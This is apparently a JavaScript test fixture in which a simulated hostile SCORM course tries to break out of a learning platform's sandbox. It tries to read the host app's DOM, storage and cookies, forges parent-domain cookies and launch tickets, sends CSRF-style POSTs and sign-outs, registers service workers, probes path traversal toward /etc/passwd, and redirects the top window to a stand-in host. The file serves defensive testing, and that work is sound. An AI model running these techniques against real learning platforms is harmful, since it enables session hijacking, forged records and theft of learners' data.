/**
 * Attacks of a course on the application around it and on other courses. Nobody has clicked when this runs. Each attack
 * returns true if it succeeded; `outcomes` has the result of each, or how it was refused.
 */
const { app, parentDomain, organization, theirs, over } = window.target
const ticket = location.pathname.split('/')[2]
const [id, expires, signature] = ticket.split('.')
const [theirId, theirExpires, theirSignature] = theirs.split('.')
const flipped = (text) => (text.startsWith('A') ? 'B' : 'A') + text.slice(1)
/** Forged tickets from what may be known about other launches. The last one was the learner's own, and is over. */
const theirTickets = [
  `${theirId}.${theirExpires}.${signature}`,
  `${theirId}.${expires}.${signature}`,
  `${theirId}.${theirExpires}.${flipped(theirSignature)}`,
  `${theirId}.${theirExpires}.`,
  `${id}.${expires}z.${signature}`,
  `${flipped(id)}.${expires}.${signature}`,
  over,
]
const outcomes = {}

const said = window.parent.API
window.begun = said.LMSInitialize('')

const within = (what, milliseconds = 3000) => Promise.race([what, new Promise((done) => setTimeout(() => done(false), milliseconds))])

/** Whether an element from another origin loads. */
const loads = (name, properties) =>
  new Promise((done) => {
    const element = Object.assign(document.createElement(name), properties)
    element.addEventListener('load', () => done(true))
    element.addEventListener('error', () => done(false))
    document.body.append(element)
  })

const readable = async (url, options) => {
  const answer = await fetch(url, options)
  return (await answer.text()).length > 0
}
const opens = async (url, options) => (await fetch(url, options)).ok

/** Submits a form into a frame of this page, or into `target`. */
function sendForm(action, target, fields = {}) {
  const form = Object.assign(document.createElement('form'), { action, target, method: 'post', enctype: 'text/plain' })
  for (const [name, value] of Object.entries(fields)) form.append(Object.assign(document.createElement('input'), { name, value }))
  const frame = Object.assign(document.createElement('iframe'), { name: 'hidden' })
  document.body.append(form, frame)
  form.submit()
}
function follow(properties) {
  const link = Object.assign(document.createElement('a'), properties)
  document.body.append(link)
  link.click()
}

const record = JSON.stringify({
  owner_organization_id: organization,
  title: 'Forged',
  status: 'pending',
  completed_at: '2026-01-01T00:00:00Z',
})
const commit = JSON.stringify({ seq: 1, base_seq: 0, item_id: 'I1', trigger: 'commit', set: { 'cmi.core.lesson_status': 'passed' } })
const json = { 'content-type': 'application/json' }
const elsewhere = 'https://evil.invalid/'
const register = async (script, scope) => Boolean(await navigator.serviceWorker.register(script, scope && { scope }))

const attacks = {
  'a click that nobody made': () => navigator.userActivation.hasBeenActive,

  // The pages of the application and their data.
  'the document of the app, as top': () => Boolean(top.document),
  'the document of the app, as the parent of the parent': () => Boolean(parent.parent.document.body),
  'the document of the app, after loosening the origin': () => {
    document.domain = parentDomain
    return Boolean(top.document)
  },
  'the window of the app': () => 'fetch' in top,
  'the address of the app': () => Boolean(top.location.href),
  'the frame that the app holds the player in': () => parent.frameElement !== null,
  'an opener': () => window.opener !== null || parent.opener !== null || top.opener !== null,
  'local storage of the app': () => Boolean(top.localStorage),
  'session storage of the app': () => Boolean(top.sessionStorage),
  'what the app stored, in a storage of our own': () => localStorage.getItem('of-the-app') !== null || sessionStorage.length > 0,
  'databases and caches that others left': async () => (await indexedDB.databases()).length + (await caches.keys()).length > 0,
  'where the learner came from': () => /courses|play/.test(parent.document.referrer),

  // Cookies.
  'cookies that are there': () => document.cookie !== '',
  'a session cookie for the parent domain': () => {
    for (const name of ['__Host-lrs-session', '__Secure-lrs-session', 'lrs-session', '__Host-lrs-sign-in'])
      for (const path of ['/', '/api']) document.cookie = `${name}=forged; Domain=${parentDomain}; Path=${path}; Secure; SameSite=None`
    return document.cookie.includes('__Host-')
  },

  // The API of the application, with the learner's cookies and without.
  'an answer of the API, with cookies': () => readable(`${app}/api/users/me`, { credentials: 'include' }),
  'an answer of the API, without': () => readable(`${app}/api/organizations`, { credentials: 'omit' }),
  'an answer of the API, opaque': () => readable(`${app}/api/users/me`, { credentials: 'include', mode: 'no-cors' }),
  'an answer of the API, as a script': () => loads('script', { src: `${app}/api/users/me` }),
  'an answer of the API, as a style': () => loads('link', { rel: 'stylesheet', href: `${app}/api/users/me` }),
  'a page of the app, as a picture': () => loads('img', { src: `${app}/favicon.svg` }),
  'an answer of the API on our own origin': () => opens('/api/users/me'),
  'a page of the app on our own origin': () => opens('/'),
  'a way to sign in on our own origin': () => opens('/auth/providers'),
  'a change, preflighted': () => opens(`${app}/api/records`, { method: 'POST', credentials: 'include', headers: json, body: record }),
  'a change, as text': async () => {
    await fetch(`${app}/api/records`, { method: 'POST', credentials: 'include', mode: 'no-cors', body: record })
    await fetch(`${app}/auth/sign-out`, { method: 'POST', credentials: 'include', mode: 'no-cors' })
    return false
  },
  'a change, as a beacon': () => {
    navigator.sendBeacon(`${app}/api/records`, record)
    navigator.sendBeacon(`${app}/auth/sign-out`)
    return false
  },
  'a change, as a form': () => {
    sendForm(`${app}/auth/sign-out`, 'hidden')
    sendForm(`${app}/api/records`, 'hidden', { '{"title":"Forged","x":"': '"}' })
    return false
  },
  'the app, in a frame of ours': async () => {
    const frame = Object.assign(document.createElement('iframe'), { src: `${app}/courses`, name: 'framed-app' })
    document.body.append(frame)
    await new Promise((done) => setTimeout(done, 1000))
    return Boolean(frame.contentDocument?.querySelector('#root'))
  },

  // Service workers, which would see every request of every course.
  'a service worker in its own folder': () => register('worker.js'),
  'a service worker for the origin': () => register('worker.js', '/'),
  'a service worker for all courses': () => register('worker.js', '/scorm/'),
  'a service worker for the player': () => register('worker.js', `/scorm/${ticket}/play`),
  'a service worker made of a script of the player': () => register(parent.document.querySelector('script[src]').src, '/scorm/player/'),
  'a service worker made here': () => register(URL.createObjectURL(new Blob(['0'], { type: 'text/javascript' }))),
  'a service worker that was there': async () => (await navigator.serviceWorker.getRegistrations()).length > 0,

  // Other launches, with forged tickets.
  'the state of another launch': async () =>
    (await Promise.all(theirTickets.map((other) => opens(`/scorm/${other}/state`)))).includes(true),
  'the files of another launch': async () =>
    (await Promise.all(theirTickets.map((other) => opens(`/scorm/${other}/files/index.html`)))).includes(true),
  'a commit to another launch': async () =>
    (
      await Promise.all(theirTickets.map((other) => opens(`/scorm/${other}/commit`, { method: 'POST', headers: json, body: commit })))
    ).includes(true),
  'the end of another launch': async () =>
    (await Promise.all(theirTickets.map((other) => opens(`/scorm/${other}/exit`, { method: 'POST' })))).includes(true),
  'files outside of the package': async () =>
    (
      await Promise.all(
        ['..%2f..%2fetc%2fpasswd', '%2e%2e/%2e%2e/package.json', '/etc/passwd', '..%5c..%5cx'].map((path) =>
          opens(`/scorm/${ticket}/files/${path}`),
        ),
      )
    ).includes(true),
  'a file of the store': () => opens('/files/downloads/x'),

  // Permissions for which the browser would ask the learner.
  'the camera': () => document.featurePolicy.allowsFeature('camera'),
  'the microphone': () => document.featurePolicy.allowsFeature('microphone'),
  'the place': () => document.featurePolicy.allowsFeature('geolocation'),

  // Messages that only the player may send.
  'a message that the player is done': () => {
    for (const data of [{ type: 'scorm-player-closed' }, 'scorm-player-closed', { type: 'navigate', to: '/' }, null])
      top.postMessage(data, '*')
    return false
  },

  // Windows come last, because a successful attack removes the page.
  'a window of its own': () => window.open(elsewhere) !== null,
  'a window by a link': () => {
    follow({ href: elsewhere, target: '_blank' })
    return false
  },
  'the top window, by its location': () => {
    top.location = elsewhere
    return false
  },
  'the top window, by replacing': () => {
    top.location.replace(elsewhere)
    return false
  },
  'the top window, by opening': () => {
    window.open(elsewhere, '_top')
    return false
  },
  'the top window, by a link': () => {
    follow({ href: elsewhere, target: '_top' })
    return false
  },
  'the top window, by a form': () => {
    sendForm(elsewhere, '_top')
    return false
  },
  'the end of the top window': () => {
    top.close()
    return top.closed
  },
}

for (const [name, attack] of Object.entries(attacks)) {
  try {
    outcomes[name] = await within(Promise.resolve(attack()))
  } catch (error) {
    outcomes[name] = error.name
  }
}
await new Promise((done) => setTimeout(done, 1000))
// The outcomes are logged, because an evaluation by the test would count as a click.
console.log(`outcomes ${JSON.stringify(outcomes)}`)
